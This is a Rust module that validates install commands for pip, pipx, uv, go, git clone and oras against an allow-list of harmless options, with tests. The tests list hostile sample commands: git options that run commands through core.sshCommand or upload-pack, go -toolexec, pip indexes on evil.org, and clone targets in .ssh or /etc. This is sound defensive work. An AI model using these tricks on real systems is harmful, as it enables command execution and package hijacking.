//! The options that an install command may have.
//!
//! Installers have options that run programs, read and write any file, or take packages from anywhere, and many spellings of each:
//! shortened, joined with their value, or behind others. So not the harmful ones are looked for: whatever is none of the known
//! harmless ones, in its full spelling, is refused.

use super::address::{self, without_secrets};
use super::host::is_host_name;
use super::install::{AT, target};
use crate::entry::problem::{Problem, Rule, shown};

/// What an option is followed by, as the next word or, for a long one, behind `=`.
#[derive(Clone, Copy)]
enum Takes {
    Nothing,
    /// A value that this answers yes to.
    Value(fn(&str) -> bool),
    /// The address of an index of packages.
    Index,
    /// The host of one whose certificate is not looked at.
    IndexHost,
}

use Takes::{Index, IndexHost, Nothing, Value};

/// An installer with the options that it may have.
pub(super) struct Tool {
    /// How it is called.
    name: &'static str,
    options: &'static [(&'static str, Takes)],
}

pub(super) const PIP: Tool = Tool {
    name: "pip install",
    options: &[
        ("-U", Nothing),
        ("--upgrade", Nothing),
        ("--user", Nothing),
        ("--pre", Nothing),
        ("-q", Nothing),
        ("--quiet", Nothing),
        ("--no-cache-dir", Nothing),
        ("--no-deps", Nothing),
        ("--no-input", Nothing),
        ("--force-reinstall", Nothing),
        ("--prefer-binary", Nothing),
        ("-i", Index),
        ("--index-url", Index),
        ("--extra-index-url", Index),
        ("-f", Index),
        ("--find-links", Index),
        ("--trusted-host", IndexHost),
    ],
};

pub(super) const PIPX: Tool = Tool {
    name: "pipx install",
    options: &[
        ("--force", Nothing),
        ("--include-deps", Nothing),
        ("-q", Nothing),
        ("--quiet", Nothing),
        ("--python", Value(is_number)),
        ("--suffix", Value(is_name)),
        ("-i", Index),
        ("--index-url", Index),
    ],
};

pub(super) const UV: Tool = Tool {
    name: "uv",
    options: &[
        ("-U", Nothing),
        ("--upgrade", Nothing),
        ("--system", Nothing),
        ("--force", Nothing),
        ("--dev", Nothing),
        ("--no-deps", Nothing),
        ("-q", Nothing),
        ("--quiet", Nothing),
        ("-p", Value(is_number)),
        ("--python", Value(is_number)),
        ("-i", Index),
        ("--index-url", Index),
        ("--extra-index-url", Index),
        ("--index", Index),
        ("--default-index", Index),
        ("-f", Index),
        ("--find-links", Index),
    ],
};

pub(super) const POETRY: Tool = Tool { name: "poetry add", options: &[("--dev", Nothing)] };

pub(super) const GO: Tool = Tool { name: "go", options: &[] };

pub(super) const GIT: Tool = Tool {
    name: "git clone",
    options: &[
        ("-b", Value(is_name)),
        ("--branch", Value(is_name)),
        ("--depth", Value(is_number)),
        ("--recurse-submodules", Nothing),
        ("--shallow-submodules", Nothing),
        ("--single-branch", Nothing),
        ("--no-tags", Nothing),
        ("-q", Nothing),
        ("--quiet", Nothing),
    ],
};

pub(super) const ORAS: Tool = Tool { name: "oras pull", options: &[] };

impl Tool {
    /// Returns the words that are no options; nothing where an option is refused, which is then said.
    pub(super) fn operands<'a>(&self, words: &[&'a str], problems: &mut Vec<Problem>) -> Option<Vec<&'a str>> {
        let mut operands = Vec::new();
        let mut words = words.iter().copied();
        while let Some(word) = words.next() {
            if !word.starts_with('-') {
                operands.push(word);
                continue;
            }
            let (name, joined) = match word.split_once('=') {
                Some((name, value)) if name.starts_with("--") => (name, Some(value)),
                _ => (word, None),
            };
            match (self.options.iter().find(|(known, _)| *known == name).map(|(_, takes)| *takes), joined) {
                (Some(Nothing), None) => {}
                (None, _) | (Some(Nothing), Some(_)) => {
                    self.unknown(name, problems);
                    return None;
                }
                (Some(takes), _) => {
                    let value = joined.or_else(|| words.next()).unwrap_or_default();
                    if !takes.is_good(value) {
                        let message = format!("`install` gives {} no value that is known to be harmless", shown(name));
                        target(message, "leave the option out", problems);
                        return None;
                    }
                    takes.tell(name, value, problems);
                }
            }
        }
        Some(operands)
    }

    fn unknown(&self, name: &str, problems: &mut Vec<Problem>) {
        // What is joined to it may be an address with a password.
        let option = shown(&without_secrets(name));
        let message = format!(
            "`install` has the option {option}, which is none of those of `{}` that surely run, read and write nothing else",
            self.name
        );
        let cure = match self.options {
            [] => "leave it out; no option is known to be harmless here".to_owned(),
            options => {
                let known: Vec<_> = options.iter().map(|(name, _)| *name).collect();
                format!("leave it out; known are {}, each in this spelling", known.join(", "))
            }
        };
        target(message, &cure, problems);
    }
}

impl Takes {
    fn is_good(self, value: &str) -> bool {
        match self {
            Nothing => value.is_empty(),
            Value(is_good) => is_good(value),
            Index => !value.is_empty(),
            IndexHost => is_host_name(value.split(':').next().unwrap_or_default()),
        }
    }

    fn tell(self, name: &str, value: &str, problems: &mut Vec<Problem>) {
        if !matches!(self, Index | IndexHost) {
            return;
        }
        let message = format!("`install` takes packages from elsewhere than PyPI: {}", shown(name));
        problems.push(
            Problem::new(Rule::InstallIndex, AT, message).cure(
                "publish on PyPI: with two indexes, whoever takes the name on the other one is installed instead",
            ),
        );
        if matches!(self, Index) {
            address::of_url(value, AT, problems);
        }
    }
}

/// A number, or a version of numbers: `1`, `3.12`.
fn is_number(value: &str) -> bool {
    value.split('.').all(|part| (1..=9).contains(&part.len()) && part.bytes().all(|byte| byte.is_ascii_digit()))
}

/// A branch, a tag or the end of a name, and no option.
fn is_name(value: &str) -> bool {
    value.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
        && value.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '/' | '+'))
        && !value.contains("..")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::entry::rules::install;

    fn found(command: &str) -> Vec<Problem> {
        let mut found = Vec::new();
        install::problems(command, None, &mut found);
        found
    }

    /// git 2.x takes `-cfoo=bar` and `--conf=…`; optparse and Go's flags have spellings of their own.
    #[test]
    fn options_in_any_spelling_are_refused() {
        for command in [
            "git clone -ccore.sshCommand=id https://github.com/me/x",
            "git clone -uid https://github.com/me/x",
            "git clone --upload=id https://github.com/me/x",
            "git clone --conf=core.fsmonitor=id https://github.com/me/x",
            "git clone --separate-git-dir=/etc/x https://github.com/me/x",
            "git clone --branch --upload-pack=id https://github.com/me/x",
            "git clone --depth=1x https://github.com/me/x",
            "git clone --quiet=x https://github.com/me/x",
            "git clone -- https://github.com/me/x",
            "git clone https://github.com/me/x --depth",
            "git clone https://github.com/me/x ../../.ssh",
            "git clone https://github.com/me/x /etc/x",
            "git clone https://github.com/me/x .ssh",
            "git clone https://github.com/me/x a/../../x",
            "git -c core.sshCommand=id clone https://github.com/me/x",
            "GIT_SSH_COMMAND=id git clone https://github.com/me/x",
            "go install -toolexec=id github.com/me/x@v1.0.0",
            "go install -overlay=x github.com/me/x@v1.0.0",
            "go install -exec=id github.com/me/x@v1.0.0",
            "go get -exec id github.com/me/x",
            "pip install -ihttp://evil.org x",
            "pip install --index-u=http://evil.org x",
            "pip install --extra=http://evil.org x",
            "pip install -rr.txt x",
            "pip install -e. x",
            "pip install --require=https://evil.org/r.txt x",
            "pip install --python=/tmp/evil x",
            "pip install --target=/etc x",
            "pip install -Ut/etc x",
            "pip install x --index-url",
            "pip install --trusted-host -x y",
            "pip --python /tmp/evil install x",
            "python3 -c 1 install x",
            "PIP_INDEX_URL=https://evil.example.org pip install x",
            "sudo PIP_CONFIG_FILE=x pip install x",
            "pipx install --python /tmp/evil x",
            "pipx install --pip-args=-ihttp://evil.org x",
            "uv tool install --with evil x",
            "uv tool install --python=./evil x",
            "oras pull -o /etc ghcr.io/me/x:1",
        ] {
            let rules: Vec<_> = found(command).iter().map(|problem| problem.rule).collect();
            let rules: Vec<_> = rules.into_iter().filter(|rule| *rule != Rule::InstallSudo).collect();
            assert_eq!(rules, [Rule::InstallTarget], "{command}");
        }
    }

    #[test]
    fn indexes_are_addresses_too() {
        for (command, rule) in [
            ("pip install -i http://evil.example.org x", Rule::UrlInsecure),
            ("pip install --index-url=https://me:hunter2@pypi.example.org x", Rule::UrlCredentials),
            ("pip install -f ./wheels x", Rule::Url),
            ("uv pip install --index https://10.0.0.1/simple x", Rule::UrlLocal),
        ] {
            let problems = found(command);
            let rules: Vec<_> = problems.iter().map(|problem| problem.rule).collect();
            assert_eq!(rules, [Rule::InstallIndex, rule], "{command}");
            assert!(!format!("{problems:?}").contains("hunter2"), "{problems:?}");
        }
        let joined = format!("{:?}", found("pip install -ihttps://me:hunter2@pypi.example.org x"));
        assert!(joined.contains("`-ihttps://…@pypi.example.org`") && !joined.contains("hunter2"), "{joined}");
    }
}
